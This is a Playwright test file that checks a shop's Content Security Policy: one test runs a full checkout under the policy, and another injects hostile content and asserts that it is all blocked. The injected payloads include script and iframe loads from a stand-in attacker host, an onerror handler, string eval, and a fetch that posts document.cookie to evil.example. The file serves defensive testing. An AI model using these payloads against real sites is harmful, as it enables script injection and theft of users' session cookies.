"""The policy in a real browser: the whole purchase works under it, and what it forbids doesn't run."""

from playwright.sync_api import BrowserContext, Page, Route, expect

from tests.e2e.shopper import BANK_CARD, Shopper

REPORT = """addEventListener('securitypolicyviolation', ({violatedDirective, blockedURI}) => {
    (window.blocked ??= []).push(`${violatedDirective} ${blockedURI}`);
    console.error(`blocked: ${violatedDirective}`);
})"""

ATTEMPTS = """() => {
    const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
    add('script', {textContent: 'window.ran = "inline"'});
    add('script', {src: 'https://evil.example/steal.js'});
    add('iframe', {src: 'https://evil.example/'});
    add('object', {data: '/favicon.svg'});
    add('base', {href: 'https://evil.example/'});
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.ran = "handler"');
    image.src = '/nothing.png';
    document.body.append(image);
    setTimeout('window.ran = "eval"');
    fetch('https://evil.example/', {method: 'POST', body: document.cookie, mode: 'no-cors'}).catch(() => {});
    const form = Object.assign(document.createElement('form'), {action: 'https://evil.example/', method: 'post'});
    document.body.append(form);
    form.submit();
}"""


def test_the_whole_purchase_works_under_the_policy(context: BrowserContext, page: Page):
    context.add_init_script(REPORT)
    anna = Shopper(page)
    anna.checkout_with("gooseneck-kettle")
    page.get_by_role("button", name="Switch between light and dark").click()
    page.get_by_role("checkbox", name="Gift wrap").check()
    page.get_by_role("radio", name="Express shipping").check()
    page.get_by_role("textbox", name="Promo code").fill("WELCOME10")
    page.get_by_role("button", name="Apply").click()
    anna.sees("$134.00", "−$25.80", "$15.00", "$123.20")
    anna.type_card(BANK_CARD)
    anna.pay()
    page.frame_locator('iframe[title="3D Secure challenge"]').get_by_role("button", name="Complete").click()
    anna.reads_order()
    assert page.evaluate("window.blocked") is None  # and the fixture sees that the console stayed clean


def test_what_is_put_into_a_page_from_outside_does_not_run(context: BrowserContext):
    context.add_init_script(REPORT)
    reached: list[str] = []

    def evil(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    context.route("**://evil.example/**", evil)
    page = context.new_page()
    page.goto("/checkout")
    expect(page.get_by_role("heading", name="Nothing to pay")).to_be_visible()
    page.evaluate(ATTEMPTS)
    wanted = {"script-src-elem inline", "script-src-elem https://evil.example/steal.js", "script-src eval"}
    wanted |= {"script-src-attr inline", "frame-src https://evil.example", "connect-src https://evil.example/"}
    wanted |= {"base-uri https://evil.example/", "form-action https://evil.example/"}
    page.wait_for_function("(wanted) => wanted.every((one) => window.blocked?.includes(one))", arg=sorted(wanted))
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.cookie") == "", "the cart cookie is not for scripts"
    assert reached == []
